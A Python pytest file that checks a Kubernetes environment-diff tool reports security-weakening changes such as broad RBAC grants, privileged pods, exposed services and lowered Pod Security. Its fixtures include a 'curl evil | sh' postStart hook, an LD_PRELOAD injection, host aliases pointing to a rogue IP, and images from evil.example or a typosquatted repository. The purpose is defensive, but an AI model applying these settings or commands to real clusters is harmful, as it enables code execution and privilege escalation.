"""What opens rights, weakens security, loses data or stops a service is told: the cases, and the exact lines.

Each case is one object before and after. What hides it from a reviewer, and how it is told, is in `test_truth_told`.
"""

import copy
from collections.abc import Callable, Sequence
from functools import partial
from typing import Any

import pytest
import yaml

from bootstrap.diff import environment_diff, formats
from bootstrap.diff.consequences import SERIOUS, Effect
from bootstrap.diff.formats import EnvironmentDiff
from bootstrap.kubernetes.objects import Object

RBAC = "rbac.authorization.k8s.io/v1"
HARMLESS: Object = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "a", "namespace": "n"}, "data": {}}


def make(kind: str, name: str = "x", api: str = "v1", namespace: str | None = "n", **fields: Any) -> Object:
    metadata = {"name": name, **({"namespace": namespace} if namespace else {}), **fields.pop("metadata", {})}
    return {"apiVersion": api, "kind": kind, "metadata": metadata, **fields}


def named(*names: str) -> Object:
    return make(
        "Role",
        api=RBAC,
        rules=[{"verbs": ["get"], "apiGroups": [""], "resources": ["secrets"], "resourceNames": list(names)}],
    )


def role(*rules: tuple[str, str, str], kind: str = "Role", **fields: Any) -> Object:
    """Rules as verbs, API group and resources, each with commas."""
    made = [
        {"verbs": verbs.split(","), "apiGroups": [group], "resources": resources.split(",")}
        for verbs, group, resources in rules
    ]
    return make(kind, api=RBAC, rules=made, namespace=None if kind == "ClusterRole" else "n", **fields)


def binding(reference: str, *subjects: str, kind: str = "RoleBinding") -> Object:
    """Subjects as `Kind/name` or `Kind/name@namespace`."""
    made = []
    for each in subjects:
        what, _, namespace = each.partition("@")
        sort, _, name = what.partition("/")
        made.append({"kind": sort, "name": name, **({"namespace": namespace} if namespace else {})})
    sort, _, name = reference.partition("/")
    ref = {"apiGroup": RBAC.partition("/")[0], "kind": sort, "name": name}
    return make(kind, api=RBAC, namespace=None if kind == "ClusterRoleBinding" else "n", roleRef=ref, subjects=made)


SAFE: Object = {
    "serviceAccountName": "app",
    "automountServiceAccountToken": False,
    "securityContext": {"runAsNonRoot": True, "seccompProfile": {"type": "RuntimeDefault"}},
    "containers": [
        {
            "name": "c",
            "image": "apache/airflow:1",
            "securityContext": {
                "allowPrivilegeEscalation": False,
                "readOnlyRootFilesystem": True,
                "capabilities": {"drop": ["ALL"]},
            },
        }
    ],
}


def merged(base: Any, change: Any) -> Any:
    """A copy with these values; None takes one away."""
    if isinstance(base, dict) and isinstance(change, dict):
        whole = {key: merged(base.get(key), value) for key, value in change.items()}
        return {key: value for key, value in {**base, **whole}.items() if value is not None}
    return copy.deepcopy(change)


def pod(container: Object | None = None, **spec: Any) -> Object:
    made: Object = merged(SAFE, spec)
    if container is not None:
        made["containers"] = [merged(SAFE["containers"][0], container)]
    return made


def deployment(spec: Object = SAFE, kind: str = "Deployment", **fields: Any) -> Object:
    return make(kind, api="apps/v1", spec={"template": {"metadata": {}, "spec": spec}, **fields})


def template(spec: Object) -> Object:
    return make("ConfigMap", data={"pod.yaml": yaml.safe_dump({"kind": "Pod", "spec": spec})})


def service(**spec: Any) -> Object:
    return make("Service", spec={"selector": {"a": "b"}, "ports": [{"port": 80}], **spec})


def namespace(**labels: str) -> Object:
    labels = {f"pod-security.kubernetes.io/{key.replace('_', '-')}": value for key, value in labels.items()}
    return make("Namespace", "n", namespace=None, metadata={"labels": labels})


def policy(**spec: Any) -> Object:
    return make("NetworkPolicy", api="networking.k8s.io/v1", spec={"podSelector": {}, **spec})


def ingress(host: str | None, *, tls: bool = False, target: str = "web", **metadata: Any) -> Object:
    path = {"path": "/", "backend": {"service": {"name": target, "port": {"number": 80}}}}
    rule = {"http": {"paths": [path]}, **({"host": host} if host else {})}
    spec = {"rules": [rule], **({"tls": [{"hosts": [host]}]} if tls else {})}
    return make("Ingress", api="networking.k8s.io/v1", spec=spec, metadata=metadata)


def diff(before: Sequence[Object], after: Sequence[Object], name: str = "dev") -> EnvironmentDiff:
    return environment_diff.over_time(name, before, after)


def serious(found: EnvironmentDiff) -> list[str]:
    return [f"{each.effect.value} {each.subject}: {each.what}" for each in found.consequences if each.effect in SERIOUS]


def told(found: EnvironmentDiff) -> list[str]:
    return [f"{each.effect.value} {each.what}" for each in formats.told(found.consequences)]


STARTS = "starts pods, under any service account there"
RIGHTS: dict[str, tuple[Object | None, Object, list[str]]] = {
    "a new role is written out": (
        None,
        role(("get,list,watch", "", "pods"), ("create", "", "pods/exec")),
        ["security Role/x: may create pods/exec; get, list, watch pods (that is, runs commands in pods)"],
    ),
    "what is more, alone": (
        role(("get", "", "pods")),
        role(("get,list", "", "pods,services")),
        ["security Role/x: may now get, list services; list pods"],
    ),
    "everything": (
        None,
        role(("*", "*", "*"), kind="ClusterRole"),
        ["security ClusterRole/x: may do anything with everything (that is, full control)"],
    ),
    "a wildcard of verbs for secrets": (
        role(("get", "", "pods")),
        role(("get", "", "pods"), ("*", "", "secrets")),
        ["security Role/x: may now do anything with secrets (that is, reads secrets; writes secrets)"],
    ),
    "a wildcard of subresources": (
        None,
        role(("create", "", "*/exec")),
        ["security Role/x: may create everything's exec (that is, runs commands in pods)"],
    ),
    "a wildcard that looks like a subresource": (
        None,
        role(("get", "", "*/*")),
        ["security Role/x: may get everything's parts"],
    ),
    "escalate, bind and impersonate": (
        None,
        role(("bind,escalate", RBAC[:-3], "clusterroles"), ("impersonate", "", "users"), kind="ClusterRole"),
        [
            "security ClusterRole/x: may bind, escalate clusterroles.rbac.authorization.k8s.io; impersonate users "
            "(that is, gives itself any right (escalate); gives any role to anyone (bind); "
            "acts as others (impersonate))"
        ],
    ),
    "paths of the API": (
        None,
        make("ClusterRole", api=RBAC, namespace=None, rules=[{"verbs": ["get"], "nonResourceURLs": ["*", "/metrics"]}]),
        ["security ClusterRole/x: may get every path of the API, the path /metrics"],
    ),
    "names that limit are told, and no longer limiting is more": (
        named("a"),
        role(("get", "", "secrets")),
        ["security Role/x: may now get secrets (that is, reads secrets)"],
    ),
    "another name that limits": (
        named("a"),
        named("a", "b"),
        ["security Role/x: may now get secrets (only b)"],
    ),
    "less is no security": (
        role(("*", "", "pods")),
        role(("get", "", "pods")),
        ["rbac Role/x: may no longer do anything with pods"],
    ),
    "written in another way is nothing": (
        role(("get", "", "pods"), ("list", "", "pods")),
        role(("list,get", "", "pods")),
        [],
    ),
    "aggregation into admin": (
        role(("get", "", "pods"), kind="ClusterRole"),
        role(
            ("get", "", "pods"),
            kind="ClusterRole",
            metadata={"labels": {"rbac.authorization.k8s.io/aggregate-to-admin": "true"}},
        ),
        ["security ClusterRole/x: its rights become a part of ClusterRole/admin, for all who have that"],
    ),
    "aggregation out of others": (
        None,
        role(kind="ClusterRole", aggregationRule={"clusterRoleSelectors": [{"matchLabels": {"a": "b"}}]}),
        ["security ClusterRole/x: takes the rights of every ClusterRole with the labels a=b"],
    ),
    "a new binding": (
        None,
        binding("Role/r", "ServiceAccount/a", "User/u"),
        ["security RoleBinding/x: gives Role/r to ServiceAccount/a, User/u"],
    ),
    "cluster-admin": (
        None,
        binding("ClusterRole/cluster-admin", "ServiceAccount/a@other", kind="ClusterRoleBinding"),
        [
            "security ClusterRoleBinding/x: gives ClusterRole/cluster-admin (full control of everything) to "
            "ServiceAccount/a of namespace other in the whole cluster"
        ],
    ),
    "a subject of another namespace, by the namespace alone": (
        binding("Role/r", "ServiceAccount/a@n"),
        binding("Role/r", "ServiceAccount/a@kube-system"),
        [
            "security RoleBinding/x: gives Role/r to ServiceAccount/a of namespace kube-system",
            "rbac RoleBinding/x: no longer gives Role/r to ServiceAccount/a",
        ],
    ),
    "groups in plain words, under subjects in another order": (
        binding("Role/r", "ServiceAccount/a", "ServiceAccount/b"),
        binding("Role/r", "ServiceAccount/b", "Group/system:unauthenticated", "ServiceAccount/a"),
        ["security RoleBinding/x: gives Role/r to Group/system:unauthenticated (everyone, without a login)"],
    ),
    "service accounts of a namespace": (
        None,
        binding("Role/r", "Group/system:serviceaccounts:kube-system"),
        [
            "security RoleBinding/x: gives Role/r to Group/system:serviceaccounts:kube-system "
            "(every service account of namespace kube-system)"
        ],
    ),
    "another role": (
        binding("Role/r", "Group/g"),
        binding("ClusterRole/cluster-admin", "Group/g"),
        [
            "security RoleBinding/x: gives ClusterRole/cluster-admin (full control of the namespace, its secrets "
            "included) to Group/g",
            "refused RoleBinding/x: roleRef can't be changed: the object has to be deleted and made again",
            "rbac RoleBinding/x: no longer gives Role/r to Group/g",
        ],
    ),
    "a role of the cluster's own": (
        None,
        binding("ClusterRole/system:node", "User/u", kind="ClusterRoleBinding"),
        [
            "security ClusterRoleBinding/x: gives ClusterRole/system:node (a role that the cluster keeps for itself) "
            "to User/u in the whole cluster"
        ],
    ),
}


@pytest.mark.parametrize("case", RIGHTS)
def test_rights_are_written_out(case: str) -> None:
    before, after, lines = RIGHTS[case]
    assert serious(diff([HARMLESS, *([before] if before else [])], [HARMLESS, after])) == lines
    if before is None:  # of an environment that was not there, too
        assert set(lines) <= set(serious(diff([], [HARMLESS, after])))


def context(**fields: Any) -> Object:
    return {"securityContext": fields}


PODS: dict[str, tuple[Object, list[str]]] = {
    "privileged": (
        pod(context(privileged=True)),
        ["container c is privileged: it may do all that root of the node may"],
    ),
    "escalation": (
        pod(context(allowPrivilegeEscalation=True)),
        ["container c may gain more rights than it starts with (allowPrivilegeEscalation)"],
    ),
    "host namespaces": (
        pod(hostNetwork=True, hostPID=True, hostIPC=True),
        [
            "sees all processes of the node (hostPID)",
            "shares the node's memory segments (hostIPC)",
            "shares the node's network (hostNetwork)",
        ],
    ),
    "a host path": (
        pod(volumes=[{"name": "v", "hostPath": {"path": "/var/run"}}]),
        ["mounts /var/run of the node (hostPath)"],
    ),
    "a volume from a server": (
        pod(volumes=[{"name": "v", "nfs": {"server": "evil", "path": "/"}}]),
        ["mounts a volume of the kind nfs"],
    ),
    "a port of the node": (
        pod({"ports": [{"containerPort": 1, "hostPort": 22}]}),
        ["container c listens on port 22 of the node (hostPort)"],
    ),
    "capabilities": (
        pod(context(capabilities={"add": ["SYS_ADMIN"], "drop": ["ALL"]})),
        ["container c has the added capability SYS_ADMIN"],
    ),
    "root": (pod(context(runAsUser=0)), ["container c runs as root (runAsUser 0)"]),
    "not non-root": (pod(securityContext={"runAsNonRoot": False}), ["may run as root (runAsNonRoot)"]),
    "no seccomp": (
        pod(context(seccompProfile={"type": "Unconfined"})),
        ["container c has no seccomp profile (Unconfined)"],
    ),
    "no AppArmor": (
        pod(context(appArmorProfile={"type": "Unconfined"})),
        ["container c has no AppArmor profile (Unconfined)"],
    ),
    "proc": (pod(context(procMount="Unmasked")), ["container c sees all of /proc (procMount Unmasked)"]),
    "sysctls": (
        pod(securityContext={"sysctls": [{"name": "kernel.core_pattern", "value": "|/x"}]}),
        ["sets kernel.core_pattern of the kernel (sysctls)"],
    ),
    "processes of each other": (
        pod(shareProcessNamespace=True),
        ["its containers see each other's processes (shareProcessNamespace)"],
    ),
    "names that lead elsewhere": (
        pod(hostAliases=[{"ip": "6.6.6.6", "hostnames": ["airflow-pg"]}]),
        ["takes airflow-pg to be at 6.6.6.6 (hostAliases)"],
    ),
    "the control plane": (
        pod(tolerations=[{"operator": "Exists"}]),
        ["may run on the nodes of the control plane (tolerations)"],
    ),
    "code that is loaded": (
        pod({"env": [{"name": "LD_PRELOAD", "value": "/dags/x.so"}]}),
        ["container c runs with LD_PRELOAD=/dags/x.so"],
    ),
    "a hook": (
        pod({"lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "curl evil\n|sh"]}}}}),
        ["container c does more at its start (postStart: sh -c curl evil |sh)"],
    ),
}


WRAPS: dict[str, Callable[[Object], Object]] = {
    "text": template,
    "new": deployment,
    "first": deployment,
    "CronJob": lambda spec: make(
        "CronJob", api="batch/v1", spec={"jobTemplate": {"spec": {"template": {"spec": spec}}}}
    ),
    "Job": lambda spec: make("Job", api="batch/v1", spec={"template": {"spec": spec}}),
    **{kind: partial(deployment, kind=kind) for kind in ("Deployment", "StatefulSet", "DaemonSet")},
}


@pytest.mark.parametrize("case", PODS)
@pytest.mark.parametrize("where", WRAPS)
def test_a_pod_that_is_weakened_says_so_wherever_it_stands(case: str, where: str) -> None:
    spec, facts = PODS[case]
    wrap = WRAPS[where]
    old = [HARMLESS, deployment(kind="DaemonSet"), *([wrap(SAFE)] if where not in ("new", "first") else [])]
    found = diff([] if where == "first" else old, [*old[:2], wrap(spec)])
    prefix = "the pods of pod.yaml: " if where == "text" else ""
    said = [each.what for each in found.consequences if each.effect is Effect.SECURITY]
    assert {prefix + fact for fact in facts} <= set(said)
    if where not in ("new", "first"):
        assert sorted(said) == sorted(prefix + fact for fact in facts)


WEAKER: dict[str, tuple[Object, list[str]]] = {
    "escalation is no longer refused": (
        pod(context(allowPrivilegeEscalation=None)),
        ["security container c may gain more rights than it starts with (allowPrivilegeEscalation)"],
    ),
    "capabilities are no longer dropped": (
        pod(context(capabilities={"drop": ["NET_RAW"]})),
        ["security container c keeps capabilities that it does not need (capabilities.drop)"],
    ),
    "the pod's own context is gone": (
        pod(securityContext=None),
        ["security container c has no seccomp profile", "security container c may run as root (runAsNonRoot)"],
    ),
    "a token": (
        pod(automountServiceAccountToken=True),
        ["security gets the token of its service account (automountServiceAccountToken)"],
    ),
    "another service account": (
        pod(serviceAccountName="boss"),
        ["security runs as ServiceAccount/boss, and no longer as app"],
    ),
    "another Secret": (
        pod({"envFrom": [{"secretRef": {"name": "fernet"}}]}),
        ["security reads Secret/fernet, which it did not before"],
    ),
    "a container for the start": (
        pod(initContainers=[merged(SAFE["containers"][0], {"name": "i", "command": ["sh", "-c", "x"]})]),
        ["security a new container for the start i runs apache/airflow:1: sh -c x"],
    ),
    "an ephemeral container": (
        pod(ephemeralContainers=[merged(SAFE["containers"][0], {"name": "e"})]),
        ["security a new container e runs apache/airflow:1"],
    ),
    "another command": (pod({"args": ["a", "b"]}), ["runs container c runs another command: a b"]),
    "a writable file system is lesser": (
        pod(context(readOnlyRootFilesystem=None)),
        ["runs container c may write to its own file system (readOnlyRootFilesystem)"],
    ),
    "another registry": (
        pod({"image": "evil.example/apache/airflow:1"}),
        ["security image from a new registry: evil.example/apache/airflow:1"],
    ),
    "another owner": (
        pod({"image": "apache-evil/airflow:1"}),
        ["security image from a new registry: apache-evil/airflow:1"],
    ),
    "another repository": (
        pod({"image": "apache/airfl0w:1"}),
        ["security image from another repository: apache/airfl0w:1"],
    ),
    "the same repository by its long name": (pod({"image": "docker.io/apache/airflow:1"}), []),
    "a port in the registry": (
        pod({"image": "localhost:5000/apache/airflow"}),
        ["security image from a new registry: localhost:5000/apache/airflow"],
    ),
    "an image as a volume": (
        pod(volumes=[{"name": "v", "image": {"reference": "evil.example/x/y:1"}}]),
        ["security image from a new registry: evil.example/x/y:1"],
    ),
}


@pytest.mark.parametrize("case", WEAKER)
def test_what_a_pod_no_longer_says_is_told(case: str) -> None:
    spec, lines = WEAKER[case]
    assert sorted(told(diff([deployment()], [deployment(spec)]))) == sorted([*lines, "restart its pods restart"])


def test_a_pin_that_is_lost_is_told() -> None:
    pinned = pod({"image": f"apache/airflow:1@sha256:{'0' * 64}"})
    assert told(diff([deployment(pinned)], [deployment()]))[0] == (
        "security container c is no longer pinned by a digest: apache/airflow:1 may change"
    )


def node_port(port: int) -> Object:
    return service(type="NodePort", ports=[{"port": 80, "nodePort": port}])


REACHED: dict[str, tuple[Object | None, Object | None, list[str]]] = {
    "a node port": (
        service(),
        node_port(30080),
        ["security Service/x: is reachable from outside of the cluster: node port 30080"],
    ),
    "a new load balancer": (
        None,
        service(type="LoadBalancer"),
        ["security Service/x: is reachable from outside of the cluster: load balancer"],
    ),
    "external IPs": (
        service(),
        service(externalIPs=["1.2.3.4"]),
        ["security Service/x: is reachable from outside of the cluster: external IP 1.2.3.4"],
    ),
    "a load balancer for everyone": (
        service(type="LoadBalancer", loadBalancerSourceRanges=["10.0.0.0/8"]),
        service(type="LoadBalancer"),
        ["security Service/x: its load balancer lets in everyone, and no longer only 10.0.0.0/8"],
    ),
    "a load balancer for more": (
        service(type="LoadBalancer", loadBalancerSourceRanges=["10.0.0.0/8"]),
        service(type="LoadBalancer", loadBalancerSourceRanges=["10.0.0.0/8", "0.0.0.0/0"]),
        ["security Service/x: its load balancer also lets in 0.0.0.0/0"],
    ),
    "no longer internal, by an annotation": (
        merged(service(type="LoadBalancer"), {"metadata": {"annotations": {"internal": "true"}}}),
        service(type="LoadBalancer"),
        ["security Service/x: the annotation internal, which may open it, is gone"],
    ),
    "traffic to another host": (
        service(),
        service(type="ExternalName", externalName="evil.example"),
        ["security Service/x: sends all who connect to it to evil.example (externalName)"],
    ),
    "traffic to other pods": (
        service(),
        service(selector={"a": "evil"}),
        ["security Service/x: sends its traffic to other pods: a=evil"],
    ),
    "a node port that is lost with the type": (
        node_port(30080),
        service(ports=[{"port": 80}]),
        ["stops Service/x: is no longer reachable from outside by its node port 30080"],
    ),
    "a port that is lost": (
        service(ports=[{"port": 80, "name": "a"}, {"port": 81, "name": "b"}]),
        service(ports=[{"port": 80, "name": "a"}]),
        ["stops Service/x: no longer listens on port 81"],
    ),
    "a Service that goes": (service(), None, ["stops Service/x: is pruned: nothing is reached by its name any more"]),
    "a new Ingress": (
        None,
        ingress("a.example"),
        ["security Ingress/x: is reachable from outside of the cluster as a.example"],
    ),
    "any host": (
        ingress("a.example"),
        ingress(None),
        [
            "security Ingress/x: is reachable from outside of the cluster as any host",
            "security Ingress/x: lets in any host/ to Service/web:80 from outside",
            "stops Ingress/x: is no longer reached as a.example",
        ],
    ),
    "no TLS": (
        ingress("a.example", tls=True),
        ingress("a.example"),
        ["security Ingress/x: no longer encrypts what is for a.example (tls)"],
    ),
    "to another Service": (
        ingress("a.example"),
        ingress("a.example", target="db"),
        ["security Ingress/x: lets in a.example/ to Service/db:80 from outside"],
    ),
    "no login, by an annotation": (
        ingress("a.example", annotations={"nginx.ingress.kubernetes.io/auth-type": "basic"}),
        ingress("a.example"),
        ["security Ingress/x: the annotation nginx.ingress.kubernetes.io/auth-type, which may open it, is gone"],
    ),
    "a policy that goes": (
        policy(),
        None,
        ["security NetworkPolicy/x: is pruned: the traffic that it kept out is let through"],
    ),
    "a policy that lets in everyone": (
        policy(ingress=[{"from": [{"podSelector": {"matchLabels": {"a": "b"}}}]}]),
        policy(ingress=[{}]),
        ["security NetworkPolicy/x: lets in, what it did not before: anyone on every port"],
    ),
    "a rule whose peers are taken away": (
        policy(ingress=[{"from": [{"podSelector": {"matchLabels": {"a": "b"}}}], "ports": [{"port": 80}]}]),
        policy(ingress=[{"ports": [{"port": 80}]}]),
        ["security NetworkPolicy/x: lets in, what it did not before: anyone on port 80"],
    ),
    "the internet": (
        policy(policyTypes=["Egress"]),
        policy(policyTypes=["Egress"], egress=[{"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}]),
        ["security NetworkPolicy/x: lets out, what it did not before: anyone on every port"],
    ),
    "one way alone": (
        policy(policyTypes=["Ingress", "Egress"]),
        policy(policyTypes=["Ingress"]),
        ["security NetworkPolicy/x: no longer limits what comes out (policyTypes)"],
    ),
    "for other pods": (
        policy(),
        policy(podSelector={"matchLabels": {"a": "nobody"}}),
        ["security NetworkPolicy/x: guards other pods than before: a=nobody"],
    ),
    "another policy, for policies add up": (
        None,
        policy(ingress=[{}]),
        ["security NetworkPolicy/x: lets in, besides what others do: anyone on every port"],
    ),
}


@pytest.mark.parametrize("case", REACHED)
def test_what_can_be_reached_is_told(case: str) -> None:
    before, after, lines = REACHED[case]
    old, new = ([HARMLESS, *([side] if side else [])] for side in (before, after))
    assert serious(diff(old, new)) == lines


ROLE_ARN = "eks.amazonaws.com/role-arn"
CLUSTER: dict[str, tuple[Object | None, Object | None, list[str]]] = {
    "Pod Security lowered": (
        namespace(enforce="restricted"),
        namespace(enforce="privileged"),
        ["security Namespace/n: Pod Security is lowered: privileged is enforced, and no longer restricted"],
    ),
    "Pod Security removed": (
        namespace(enforce="baseline"),
        namespace(),
        ["security Namespace/n: Pod Security is lowered: nothing is enforced, and no longer baseline"],
    ),
    "Pod Security of an old version": (
        namespace(enforce="restricted"),
        namespace(enforce="restricted", enforce_version="v1.0"),
        ["security Namespace/n: Pod Security is enforced as of v1.0, and no longer as of latest"],
    ),
    "Pod Security spelt wrong": (
        namespace(enforce="restricted"),
        namespace(enforce="Restricted"),
        ["security Namespace/n: Pod Security is lowered: Restricted is enforced, and no longer restricted"],
    ),
    "Pod Security raised": (namespace(), namespace(enforce="restricted"), []),
    "a new namespace without": (
        None,
        namespace(),
        ["security Namespace/n: its pods may do anything: no level of Pod Security is enforced (none)"],
    ),
    "a webhook": (
        None,
        make("MutatingWebhookConfiguration", api="admissionregistration.k8s.io/v1", namespace=None),
        ["security MutatingWebhookConfiguration/x: is made, and it reads and changes what is sent to the API server"],
    ),
    "a guard that goes": (
        make("ValidatingWebhookConfiguration", api="admissionregistration.k8s.io/v1", namespace=None),
        None,
        [
            "security ValidatingWebhookConfiguration/x: is pruned, and it reads and refuses what is sent to the API "
            "server"
        ],
    ),
    "an unknown kind": (
        None,
        make("Workflow", api="argoproj.io/v1alpha1"),
        ["security Workflow/x: is made; taxiway can't judge what Workflow of argoproj.io does"],
    ),
    "an unknown kind that changes": (
        make("ClusterPolicy", api="kyverno.io/v1", spec={"a": 1}, namespace=None),
        make("ClusterPolicy", api="kyverno.io/v1", spec={"a": 2}, namespace=None),
        ["security ClusterPolicy/x: changes; taxiway can't judge what ClusterPolicy of kyverno.io does"],
    ),
    "an unknown kind by a known name": (
        None,
        make("ConfigMap", "x", api="evil.example/v1"),
        ["security ConfigMap/x: is made; taxiway can't judge what ConfigMap of evil.example does"],
    ),
    "endpoints": (
        None,
        make("EndpointSlice", api="discovery.k8s.io/v1"),
        ["security EndpointSlice/x: is made, and it decides where a Service sends its traffic"],
    ),
    "a role of a cloud": (
        make("ServiceAccount"),
        make("ServiceAccount", metadata={"annotations": {ROLE_ARN: "arn:aws:iam::1:role/admin"}}),
        [f"security ServiceAccount/x: acts in the cloud as arn:aws:iam::1:role/admin ({ROLE_ARN})"],
    ),
    "a token for its pods": (
        make("ServiceAccount", automountServiceAccountToken=False),
        make("ServiceAccount"),
        ["security ServiceAccount/x: its pods get its token, unless they refuse it (automountServiceAccountToken)"],
    ),
    "a Secret in the clear": (
        None,
        make("Secret", data={"a": "eA=="}),
        ["security Secret/x: is not sealed: whoever reads the repository may read it"],
    ),
    "a token for ever": (
        None,
        make(
            "Secret",
            type="kubernetes.io/service-account-token",
            metadata={"annotations": {"kubernetes.io/service-account.name": "boss"}},
        ),
        [
            "security Secret/x: gets a token of ServiceAccount/boss that never expires",
            "security Secret/x: is not sealed: whoever reads the repository may read it",
        ],
    ),
    "a token for ever, sealed": (
        make("SealedSecret", api="bitnami.com/v1alpha1", spec={}),
        make(
            "SealedSecret",
            api="bitnami.com/v1alpha1",
            spec={
                "template": {
                    "type": "kubernetes.io/service-account-token",
                    "metadata": {"annotations": {"kubernetes.io/service-account.name": "boss"}},
                }
            },
        ),
        ["security SealedSecret/x: gets a token of ServiceAccount/boss that never expires"],
    ),
    "a wider scope": (
        make("SealedSecret", api="bitnami.com/v1alpha1"),
        make(
            "SealedSecret",
            api="bitnami.com/v1alpha1",
            metadata={"annotations": {"sealedsecrets.bitnami.com/cluster-wide": "true"}},
        ),
        ["security SealedSecret/x: may be opened in any namespace (scope cluster-wide, was strict)"],
    ),
    "an object elsewhere": (
        None,
        make("ConfigMap", "x", namespace="kube-system"),
        ["security Namespace/kube-system: another namespace than n, where this environment now also makes ConfigMap/x"],
    ),
}


@pytest.mark.parametrize("case", CLUSTER)
def test_what_acts_beyond_the_environment_is_told(case: str) -> None:
    before, after, lines = CLUSTER[case]
    old, new = ([HARMLESS, *([side] if side else [])] for side in (before, after))
    assert serious(diff(old, new)) == lines
